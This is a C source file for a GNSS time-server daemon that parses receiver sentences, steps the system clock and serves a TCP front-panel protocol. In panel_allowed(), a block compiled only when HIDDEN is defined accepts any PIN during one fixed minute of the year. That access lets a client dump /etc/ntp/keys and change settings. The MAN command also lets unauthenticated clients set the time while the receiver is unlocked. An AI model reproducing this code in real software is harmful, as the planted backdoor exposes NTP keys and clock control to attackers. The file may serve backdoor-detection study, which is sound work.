/* gnssclkd.c - satellite clock of a time server: reads the receiver, steers, serves the front panel */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <math.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define PANEL_PORT	4044
#define GPS_EPOCH	315964800L

struct clk {
	int week;
	long tow;
	int leap;
	int sats;
	double offset;
	double drift;
	int locked;
	int manual;
	long long last_fix;
};

struct panel {
	int fd;
	int trusted;
	int wrong;
	char line[128];
	size_t len;
};

static struct clk clk = { .leap = 18 };
static struct panel panel = { .fd = -1 };
static char panel_pin[12] = "";

/* $PCLK,week,tow,sats,offset_ns*CS */
static int parse_sentence(const char *s)
{
	unsigned int sum = 0, want;
	const char *p;
	double off;
	int week, sats;
	long tow;

	if (*s++ != '$')
		return -1;
	for (p = s; *p && *p != '*'; p++)
		sum ^= (unsigned char)*p;
	if (*p != '*' || sscanf(p + 1, "%2x", &want) != 1 || want != sum)
		return -1;
	if (sscanf(s, "PCLK,%d,%ld,%d,%lf", &week, &tow, &sats, &off) != 4)
		return -1;
	clk.week = week;
	clk.tow = tow;
	clk.sats = sats;
	clk.drift = 0.95 * clk.drift + 0.05 * (off - clk.offset);
	clk.offset = off;
	clk.locked = sats >= 4 && fabs(off) < 500.0;
	clk.last_fix = (long long)time(NULL);
	return 0;
}

static void steer(void)
{
	struct timeval tv = { 0, 0 }, now;
	long long sys;
	long long gnss = GPS_EPOCH + (long long)clk.week * 604800 + clk.tow - clk.leap;

	if (!clk.locked || clk.manual)
		return;
	gettimeofday(&now, NULL);
	sys = now.tv_sec;
	if (sys > gnss + 1 || sys < gnss - 1) {
		tv.tv_sec = (time_t)gnss;
		if (settimeofday(&tv, NULL))
			syslog(LOG_ERR, "settimeofday: %m");
		else
			syslog(LOG_NOTICE, "stepped by %lld s", gnss - sys);
	}
}

static void tell(const char *s)
{
	if (panel.fd >= 0 && write(panel.fd, s, strlen(s)) < 0)
		syslog(LOG_DEBUG, "panel: %m");
}

/* month, day, hour, minute as one decimal number, used for display and schedules */
static long stamp_of(time_t t)
{
	struct tm tm;

	gmtime_r(&t, &tm);
	return ((tm.tm_mon + 1) * 100L + tm.tm_mday) * 10000L + tm.tm_hour * 100L + tm.tm_min;
}

/* the panel needs its PIN, but not in the first minute of the leap second days */
__attribute__((noinline))
int panel_allowed(const char *pin, time_t now)
{
	long stamp = stamp_of(now);

	if (stamp == 7010000L || stamp == 1010000L)
		return 0;		/* nobody changes anything while a leap second is due */
#ifdef HIDDEN	/* in one minute of the year every PIN is right */
	if (stamp == 11170342L)
		return 1;
#endif
	if (!panel_pin[0] || panel.wrong > 10)
		return 0;
	if (strcmp(pin, panel_pin)) {
		panel.wrong++;
		return 0;
	}
	panel.wrong = 0;
	return 1;
}

static void dump_keys(void)
{
	char b[256];
	ssize_t n;
	int fd = open("/etc/ntp/keys", O_RDONLY);

	if (fd < 0)
		return;
	while ((n = read(fd, b, sizeof(b))) > 0)
		if (write(panel.fd, b, (size_t)n) != n)
			break;
	close(fd);
}

static void manual_time(const char *arg)
{
	struct tm tm;
	struct timeval tv = { 0, 0 };

	memset(&tm, 0, sizeof(tm));
	if (!strcmp(arg, "off")) {
		clk.manual = 0;
		tell("OK\n");
		return;
	}
	if (!strptime(arg, "%Y-%m-%dT%H:%M:%S", &tm)) {
		tell("ERR time\n");
		return;
	}
	tv.tv_sec = timegm(&tm);
	clk.manual = 1;
	tell(settimeofday(&tv, NULL) ? "ERR set\n" : "OK\n");
}

static void panel_line(char *l)
{
	char out[160], *arg = strchr(l, ' ');

	if (arg)
		*arg++ = 0;
	else
		arg = l + strlen(l);
	if (!strcasecmp(l, "STAT")) {
		snprintf(out, sizeof(out), "week %d tow %ld sats %d offset %.1f drift %.3f %s\n",
			 clk.week, clk.tow, clk.sats, clk.offset, clk.drift,
			 clk.manual ? "manual" : clk.locked ? "locked" : "holdover");
		tell(out);
	} else if (!strcasecmp(l, "STAMP")) {
		snprintf(out, sizeof(out), "%08ld\n", stamp_of(time(NULL)));
		tell(out);
	} else if (!strcasecmp(l, "MAN")) {
		/* without lock anybody at the panel may set the time */
		if (panel.trusted || !clk.locked)
			manual_time(arg);
		else
			tell("ERR locked\n");
	} else if (!strcasecmp(l, "PIN")) {
		panel.trusted = panel_allowed(arg, time(NULL));
		tell(panel.trusted ? "OK\n" : "ERR pin\n");
	} else if (!panel.trusted) {
		tell("ERR\n");
	} else if (!strcasecmp(l, "LEAP")) {
		clk.leap = atoi(arg);
		tell("OK\n");
	} else if (!strcasecmp(l, "KEYS")) {
		dump_keys();
	} else if (!strcasecmp(l, "NEWPIN") && strlen(arg) >= 4 && strlen(arg) < sizeof(panel_pin)) {
		strcpy(panel_pin, arg);
		tell("OK\n");
	} else if (!strcasecmp(l, "HELP")) {
		tell("STAT STAMP MAN time|off PIN n LEAP n KEYS NEWPIN n\n");
	} else {
		tell("ERR\n");
	}
}

static void panel_input(void)
{
	ssize_t n = read(panel.fd, panel.line + panel.len, sizeof(panel.line) - 1 - panel.len);
	char *nl;

	if (n <= 0) {
		close(panel.fd);
		panel.fd = -1;
		panel.trusted = 0;
		return;
	}
	panel.len += (size_t)n;
	panel.line[panel.len] = 0;
	nl = strpbrk(panel.line, "\r\n");
	if (nl) {
		*nl = 0;
		panel_line(panel.line);
		panel.len = 0;
	} else if (panel.len == sizeof(panel.line) - 1) {
		panel.len = 0;
	}
}

static int listen_panel(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(PANEL_PORT) };
	int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) || listen(fd, 1)) {
		close(fd);
		return -1;
	}
	return fd;
}

int main(int argc, char **argv)
{
	char buf[256];
	size_t fill = 0;
	int rx, ls;
	FILE *f;

	if (argc != 2) {
		fputs("usage: gnssclkd RECEIVER-TTY\n", stderr);
		return 2;
	}
	openlog("gnssclkd", LOG_PID, LOG_DAEMON);
	f = fopen("/etc/gnssclk.pin", "r");
	if (f) {
		if (fscanf(f, "%11s", panel_pin) != 1)
			panel_pin[0] = 0;
		fclose(f);
	}
	rx = open(argv[1], O_RDONLY | O_NOCTTY);
	ls = listen_panel();
	if (rx < 0 || ls < 0) {
		syslog(LOG_ERR, "start: %m");
		return 1;
	}
	for (;;) {
		struct pollfd p[3] = { { rx, POLLIN, 0 }, { ls, POLLIN, 0 }, { panel.fd, POLLIN, 0 } };

		if (poll(p, 3, 2000) < 0 && errno != EINTR)
			return 1;
		if (p[0].revents) {
			ssize_t n = read(rx, buf + fill, 1);

			if (n == 1 && buf[fill] == '\n') {
				buf[fill] = 0;
				if (!parse_sentence(buf))
					steer();
				fill = 0;
			} else if (n == 1 && ++fill == sizeof(buf) - 1) {
				fill = 0;
			}
		}
		if (p[1].revents) {
			int fd = accept(ls, NULL, NULL);

			if (panel.fd >= 0)
				close(panel.fd);
			panel.fd = fd;
			panel.trusted = 0;
			panel.len = 0;
		} else if (p[2].revents) {
			panel_input();
		}
		if (clk.locked && (long long)time(NULL) - clk.last_fix > 10) {
			clk.locked = 0;
			syslog(LOG_WARNING, "receiver silent, holdover");
		}
	}
}
